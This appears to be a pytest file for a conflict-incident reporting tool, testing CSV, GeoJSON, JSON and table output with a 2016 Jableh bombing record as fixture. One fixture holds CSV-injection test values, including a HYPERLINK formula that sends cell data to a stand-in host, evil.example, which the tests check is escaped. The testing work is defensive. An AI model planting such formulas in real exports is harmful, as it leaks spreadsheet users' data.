"""Output formats: CSV, GeoJSON, JSON, rich table and detail view."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from rich.console import Console

from sitrep.formats import (
    CSV_COLUMNS,
    incident_detail,
    incidents_csv,
    incidents_geojson,
    incidents_json,
    incidents_table,
)
from sitrep.records import Actor, Evidence, Figure, Incident, Place, Range


def jableh() -> Incident:
    return Incident(
        id="SYR-20160523-jableh",
        event_type="Explosions/Remote violence",
        sub_event_type="Suicide bomb",
        date=dt.date(2016, 5, 23),
        date_precision="day",
        location=Place(
            name="Jableh", geonameid=172374, lat=35.3615, lon=35.9256, country_code="SY",
            admin1="Latakia", admin2="Jableh District", precision="town",
        ),
        perpetrators=[Actor(name="Islamic State", basis="claimed"),
                      Actor(name="[unknown cell]", basis="suspected")],
        killed=Range(low=100, best=120, high=148),
        injured=Range(low=50, best=50, high=50),
        figures=[
            Figure(kind="killed", value=100, qualifier="at least", scope="Jableh",
                   reported_by="Syrian Observatory", quote="at least 100 people were killed",
                   article_id="a1", start=0, end=31),
            Figure(kind="killed", value=148, qualifier="more than", scope="Jableh and Tartus",
                   reported_by="Syrian Observatory", quote="more than 148 dead",
                   article_id="a1", start=40, end=58),
            Figure(kind="injured", value=50, reported_by="SANA", quote="50 wounded",
                   article_id="a2", start=3, end=13),
        ],
        claimed_by="Islamic State",
        sources=["SANA", "Syrian Observatory"],
        related=["SYR-20160523-tartus"],
        articles=["a1", "a2"],
        evidence=[
            Evidence(field="killed", article_id="a1", start=0, end=31,
                     text="At least 100 people\n were killed in Jableh."),
            Evidence(field="perpetrators", article_id="a1", start=60, end=90,
                     text="Islamic State claimed the bombings."),
        ],
    )


def unplaced() -> Incident:
    return Incident(
        id="XX-undated", sub_event_type="Attack", date=dt.date(2020, 3, 1),
        date_precision="month", location=Place(name="somewhere", country_code="NE",
                                                precision="admin1"),
        articles=["a3"],
    )


def render(renderable) -> str:
    console = Console(record=True, width=200)
    console.print(renderable)
    return console.export_text()


def test_csv_header_and_rows():
    text = incidents_csv([jableh(), unplaced()])
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    assert rows[0] == {
        "event_id_cnty": "SYR-20160523-jableh",
        "event_date": "2016-05-23",
        "year": "2016",
        "time_precision": "1",
        "event_type": "Explosions/Remote violence",
        "sub_event_type": "Suicide bomb",
        "actor1": "Islamic State; [unknown cell]",
        "country_code": "SY",
        "admin1": "Latakia",
        "admin2": "Jableh District",
        "location": "Jableh",
        "latitude": "35.3615",
        "longitude": "35.9256",
        "geo_precision": "1",
        "source": "SANA; Syrian Observatory",
        "notes": "At least 100 people were killed in Jableh.",
        "fatalities": "120",
        "injured": "50",
    }
    second = rows[1]
    assert second["time_precision"] == "3"
    assert second["geo_precision"] == "3"
    assert second["latitude"] == second["longitude"] == ""
    assert second["fatalities"] == "0" and second["injured"] == ""
    assert second["notes"] == "" and second["actor1"] == ""


def formula_incident() -> Incident:
    """Report fields an attacker controls, each starting with a spreadsheet formula trigger."""
    return Incident(
        id="XX-formula", sub_event_type="Attack", date=dt.date(2024, 1, 1), date_precision="day",
        location=Place(name="+Town", lat=12.5, lon=-3.5, country_code="BF", admin1="@admin",
                       admin2="\tTabbed", precision="town"),
        perpetrators=[Actor(name="-Gang", basis="reported")],
        killed=Range(low=2, best=2, high=2),
        sources=['=HYPERLINK("http://evil.example/?"&A1,"click")'],
        evidence=[Evidence(field="event", article_id="a9", start=0, end=10, text="\r=1+1 happened")],
        articles=["a9"],
    )


def test_csv_cell_escapes_formula_text_only():
    from sitrep.formats import csv_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-3.5"):
        assert csv_cell(text) == "'" + text
    for value in (-3.5, -2, 0, 1.25, "Jableh", "a=b", " =x", "", "'already"):
        assert csv_cell(value) == value
    assert csv_cell(None) == ""


def test_csv_escapes_cells_a_spreadsheet_would_run():
    text = incidents_csv([formula_incident()])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["source"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["location"] == "'+Town" and row["admin1"] == "'@admin" and row["admin2"] == "'\tTabbed"
    assert row["actor1"] == "'-Gang"
    assert row["notes"] == "'=1+1 happened"  # whitespace folded, then escaped
    assert row["longitude"] == "-3.5" and row["latitude"] == "12.5"  # numbers stay numbers
    for cell in row.values():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-3.5", cell


def test_geojson_points_are_lon_lat_and_skip_missing_coordinates():
    collection = json.loads(incidents_geojson([jableh(), unplaced()]))
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == 1
    feature = collection["features"][0]
    assert feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [35.9256, 35.3615]}
    props = feature["properties"]
    assert props["id"] == "SYR-20160523-jableh"
    assert props["location"] == "Jableh" and props["country_code"] == "SY"
    assert "figures" not in props and "evidence" not in props
    # flat: numbers as numbers (fatalities as ACLED codes them: the conservative end), lists joined
    assert (props["fatalities"], props["killed_low"], props["killed_best"], props["killed_high"]) == (100, 100, 120, 148)
    assert not any(isinstance(v, (dict, list)) for v in props.values()), props


def test_geojson_unlocated_only_when_asked():
    collection = json.loads(incidents_geojson([jableh(), unplaced()], include_unlocated=True))
    assert [f["geometry"] for f in collection["features"]][1] is None
    props = collection["features"][1]["properties"]
    assert props["location"] == "somewhere" and props["fatalities"] == 0 and props["killed_low"] is None
    # a month-precise date stands for its month
    assert (props["date"], props["date_first"], props["date_last"]) == ("2020-03-01", "2020-03-01", "2020-03-31")


def test_geojson_empty():
    assert json.loads(incidents_geojson([])) == {"type": "FeatureCollection", "features": []}


def test_json_round_trip():
    incidents = [jableh(), unplaced()]
    data = json.loads(incidents_json(incidents))
    assert [Incident.model_validate(item) for item in data] == incidents
    assert data[0]["date"] == "2016-05-23"


def test_table_renders_place_killed_and_brackets():
    out = render(incidents_table([jableh(), unplaced()]))
    assert "Jableh, SY" in out
    assert "120 (100–148)" in out
    assert "[unknown cell]" in out  # user text is not parsed as rich markup
    assert "Suicide bomb" in out
    assert "2020-03-01 (month)" in out
    assert "somewhere, NE" in out


def test_detail_shows_every_figure_and_evidence():
    out = render(incident_detail(jableh()))
    for expected in (
        "Suicide bomb", "2016-05-23", "Jableh", "35.3615, 35.9256", "Islamic State (claimed)",
        "[unknown cell] (suspected)", "low 100 · best 120 · high 148",
        "at least 100 people were killed", "more than 148 dead", "50 wounded", "SANA",
        "Jableh and Tartus", "Islamic State claimed the bombings.",
        "At least 100 people were killed in Jableh.", "SYR-20160523-tartus",
    ):
        assert expected in out, expected


def test_detail_handles_unknowns():
    out = render(incident_detail(Incident(id="bare")))
    assert "bare" in out
    assert "no reported figures" in out
